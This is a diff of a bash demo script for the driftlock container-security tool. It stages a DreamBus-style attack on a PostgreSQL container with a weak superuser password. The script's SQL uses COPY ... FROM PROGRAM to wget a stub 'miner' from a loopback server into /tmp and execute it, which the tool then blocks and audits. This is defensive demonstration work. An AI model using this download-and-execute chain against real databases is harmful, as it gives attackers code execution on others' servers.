@@ -1,58 +1,122 @@
 #!/usr/bin/env bash
-# The drift attack, stopped: a throwaway "container" (overlay rootfs + tmpfs /tmp) in a
-# private mount namespace, armed by the driftlock daemon, then an attacker drops a payload
-# into /tmp and runs it.
+# The DreamBus attack on PostgreSQL, stopped by driftlock.
 #
-#   sudo ./scripts/demo.sh
+#   ./scripts/demo.sh          (as root, on Debian 12)
 #
-# Nothing outside the private mount namespace is marked; the daemon is stopped at the end.
+# Installs what it needs (runc, containerd, umoci, debootstrap, busybox-static, jq,
+# postgresql-client, gcc), builds driftlock, builds a PostgreSQL image offline from Debian's
+# packages (cached in /var/cache/driftlock-demo), and, in a private mount namespace with its
+# own containerd, runs it through driftlock-runtime with a weak superuser password on
+# 127.0.0.1. Then it plays the attacker: psql in, COPY ... FROM PROGRAM downloads a "miner"
+# from a loopback HTTP server into /tmp and runs it. The exec is denied; the audit record
+# shows the chain postgres -> sh -> payload. Then the same in audit mode.
 set -euo pipefail
-[ "$(id -u)" = 0 ] || { echo "demo.sh: run as root (fanotify needs CAP_SYS_ADMIN)" >&2; exit 1; }
+[ "$(id -u)" = 0 ] || { echo "demo.sh: run as root" >&2; exit 1; }
 cd "$(dirname "$0")/.."
-command -v cargo >/dev/null || { echo "demo.sh: install Rust first (https://rustup.rs)" >&2; exit 1; }
-command -v jq >/dev/null || { apt-get update -q && DEBIAN_FRONTEND=noninteractive apt-get install -y -q jq; } >/dev/null
+command -v cargo >/dev/null || { echo "demo.sh: install Rust 1.85+ first (https://rustup.rs)" >&2; exit 1; }
+need=()
+for t in runc containerd umoci debootstrap jq psql cc; do command -v "$t" >/dev/null || need+=("$t"); done
+command -v busybox >/dev/null || need+=(busybox-static)
+if [ ${#need[@]} -gt 0 ]; then
+  pkgs=()
+  for t in "${need[@]}"; do
+    case $t in psql) pkgs+=(postgresql-client) ;; cc) pkgs+=(gcc libc6-dev) ;; *) pkgs+=("$t") ;; esac
+  done
+  echo "installing ${pkgs[*]} ..."
+  apt-get update -q >/dev/null && DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends "${pkgs[@]}" >/dev/null
+fi
 cargo build --release -q
-bin=$PWD/target/release/driftlock
-exec unshare -m --propagation private bash -s "$bin" <<'INNER'
+cache=${DRIFTLOCK_DEMO_CACHE:-/var/cache/driftlock-demo}
+mkdir -p "$cache"
+if [ ! -s "$cache/postgres.tar" ]; then
+  echo "building the PostgreSQL image (debootstrap minbase + postgresql; once, about a minute) ..."
+  testdata/build-postgres-image.sh "$cache/postgres.tar"
+fi
+if [ ! -s "$cache/payload" ]; then
+  printf '#include <stdio.h>\nint main(void){puts("kdevtmpfsi: mining");return 0;}\n' > "$cache/payload.c"
+  cc -static -O2 -o "$cache/payload" "$cache/payload.c"
+fi
+inner=$(mktemp)
+trap 'rm -f "$inner"' EXIT
+cat > "$inner" <<'INNER'
 set -uo pipefail
-bin=$1
+bin=$1 cache=$2
 t=$(mktemp -d /tmp/driftlock-demo.XXXXXX)
-mount -t tmpfs tmpfs "$t"
-mkdir -p "$t"/{lower/bin,upper,work,rootfs,state}
-for p in /usr/bin/sh /usr/bin/cat /usr/bin/ls /usr/bin/cp /usr/bin/chmod; do cp "$p" "$t/lower/bin/"; done
-mount -t overlay overlay -o "lowerdir=$t/lower,upperdir=$t/upper,workdir=$t/work" "$t/rootfs"
-mkdir -p "$t/rootfs/tmp" && mount -t tmpfs tmpfs "$t/rootfs/tmp"
+mount -t tmpfs -o size=2g tmpfs "$t"
+mkdir -p "$t"/{root,state,dl,www}
+cp "$cache/payload" "$t/www/kdevtmpfsi"
+cat > "$t/config.toml" <<EOT
+version = 2
+root = "$t/root"
+state = "$t/state"
+disabled_plugins = ["io.containerd.grpc.v1.cri"]
+[grpc]
+  address = "$t/c.sock"
+[ttrpc]
+  address = "$t/c.sock.ttrpc"
+EOT
 say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
-cleanup() { kill "$daemon" 2>/dev/null; wait "$daemon" 2>/dev/null; umount -l "$t" 2>/dev/null; rmdir "$t" 2>/dev/null; }
-
-say "start the daemon (enforce mode by default)"
-"$bin" daemon --log-level warn --socket "$t/d.sock" --state-dir "$t/state" --audit-log "$t/audit.jsonl" >/dev/null &
-daemon=$!
+"$bin/driftlock" daemon --log-level warn --socket "$t/dl/d.sock" --state-dir "$t/dl/state" \
+  --audit-log "$t/dl/audit.jsonl" >/dev/null &
+dpid=$!
+DRIFTLOCK_SOCKET=$t/dl/d.sock containerd --config "$t/config.toml" >"$t/containerd.log" 2>&1 &
+cpid=$!
+busybox httpd -f -p 127.0.0.1:18080 -h "$t/www" &
+hpid=$!
+ctr="ctr -a $t/c.sock"
+cleanup() {
+  for id in $($ctr tasks ls -q 2>/dev/null); do $ctr tasks kill -s SIGKILL "$id" >/dev/null 2>&1; done
+  sleep 0.5
+  for id in $($ctr containers ls -q 2>/dev/null); do $ctr tasks delete -f "$id" >/dev/null 2>&1; $ctr containers delete "$id" >/dev/null 2>&1; done
+  kill "$hpid" "$cpid" "$dpid" 2>/dev/null; wait 2>/dev/null
+  umount -l "$t"; rmdir "$t"
+}
 trap cleanup EXIT
-for _ in $(seq 100); do [ -S "$t/d.sock" ] && break; sleep 0.05; done
-say "arm the container: baseline of its image, marks on its rootfs and /tmp"
-"$bin" arm --socket "$t/d.sock" --id web-1 --rootfs "$t/rootfs" --mount "$t/rootfs/tmp"
+while [ ! -S "$t/c.sock" ] || [ ! -S "$t/dl/d.sock" ]; do sleep 0.05; done
+$ctr images import --base-name localhost/demo/postgres "$cache/postgres.tar" >/dev/null </dev/null
+img=localhost/demo/postgres:latest
+export PGPASSWORD=postgres PGCONNECT_TIMEOUT=2
+psql_=(psql -h 127.0.0.1 -p 55432 -U postgres -X -q)
 
-say "image programs keep working"
-"$t/rootfs/bin/ls" "$t/rootfs/bin" | tr '\n' ' '; echo
+start_pg() {
+  local id=$1; shift
+  $ctr run -d --net-host --runc-binary "$bin/driftlock-runtime" \
+    --annotation io.kubernetes.cri.image-name=docker.io/library/postgres:15 "$@" "$img" "$id" >/dev/null </dev/null
+  for _ in $(seq 100); do "${psql_[@]}" -c 'select 1' >/dev/null 2>&1 && return 0; sleep 0.2; done
+  echo "postgres did not start" >&2; return 1
+}
+attack() {
+  "${psql_[@]}" <<'SQL'
+CREATE TABLE IF NOT EXISTS cmd_exec(cmd_output text);
+COPY cmd_exec FROM PROGRAM 'wget -q -O /tmp/kdevtmpfsi http://127.0.0.1:18080/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi';
+SELECT cmd_output AS "what the payload printed" FROM cmd_exec;
+SQL
+}
 
-say "the attacker drops a payload into /tmp, chmod +x, runs it"
-cp /usr/bin/id "$t/rootfs/tmp/kdevtmpfsi"
-"$t/rootfs/bin/chmod" +x "$t/rootfs/tmp/kdevtmpfsi"
-"$t/rootfs/bin/sh" -c "$t/rootfs/tmp/kdevtmpfsi"; echo "exit status $?"
+say "PostgreSQL in a container, armed by driftlock at creation (enforce mode)"
+start_pg pg-1 || exit 1
+"$bin/driftlock" status --socket "$t/dl/d.sock"
 
-say "a copy of an image program under another name is the same program: allowed"
-cp "$t/rootfs/bin/ls" "$t/rootfs/tmp/renamed-ls" && "$t/rootfs/tmp/renamed-ls" -d /; echo "exit status $?"
+say "the attacker: psql with the weak password, then COPY ... FROM PROGRAM (wget a miner into /tmp, chmod +x, run)"
+attack
 
-say "the audit record (left the container at once)"
-sleep 0.3; tail -n 1 "$t/audit.jsonl" | jq '{time, unit, image_key, mode, verdict, reason, path, pid, comm, cmdline, chain: [.chain[] | "\(.pid) \(.comm)"], blake3, sha256, size}' 
+say "the audit record, outside the container"
+sleep 0.3
+enforce_verdict=$(tail -n 1 "$t/dl/audit.jsonl" | jq -r '"\(.unit) \(.verdict) \(.path)"')
+tail -n 1 "$t/dl/audit.jsonl" | jq '{time, unit, image_name, verdict, reason, path, sha256, chain: [.chain[] | "\(.pid) \(.comm): \(.cmdline | join(" ") | .[0:70])"]}'
 
-say "the same container in audit mode: the payload runs, the record says would-deny"
-"$bin" disarm --socket "$t/d.sock" --id web-1 >/dev/null
-"$bin" arm --socket "$t/d.sock" --id web-1 --rootfs "$t/rootfs" --mount "$t/rootfs/tmp" --mode audit >/dev/null
-"$t/rootfs/tmp/kdevtmpfsi" >/dev/null; echo "exit status $?"
-sleep 0.3; tail -n 1 "$t/audit.jsonl" | jq -c '{verdict, reason, path, sha256}' 
-
-say "status"
-"$bin" status --socket "$t/d.sock"
+say "the same container in audit mode (annotation driftlock.io/mode=audit): the payload runs, the record says would-deny"
+$ctr tasks kill -s SIGKILL pg-1 >/dev/null; sleep 1; $ctr tasks delete -f pg-1 >/dev/null 2>&1; $ctr containers delete pg-1 >/dev/null
+start_pg pg-2 --annotation driftlock.io/mode=audit || exit 1
+attack
+sleep 0.3
+audit_verdict=$(tail -n 1 "$t/dl/audit.jsonl" | jq -r '"\(.unit) \(.verdict) \(.path)"')
+tail -n 1 "$t/dl/audit.jsonl" | jq -c '{unit, verdict, path, chain: [.chain[] | .comm]}'
+if [ "$enforce_verdict" = "pg-1 deny /tmp/kdevtmpfsi" ] && [ "$audit_verdict" = "pg-2 would-deny /tmp/kdevtmpfsi" ]; then
+  say "demo: as expected (enforce denied the payload, audit recorded would-deny)"
+else
+  echo "demo: UNEXPECTED outcome: enforce '$enforce_verdict', audit '$audit_verdict'" >&2
+  exit 1
+fi
 INNER
+unshare -m --propagation private bash "$inner" "$PWD/target/release" "$cache"
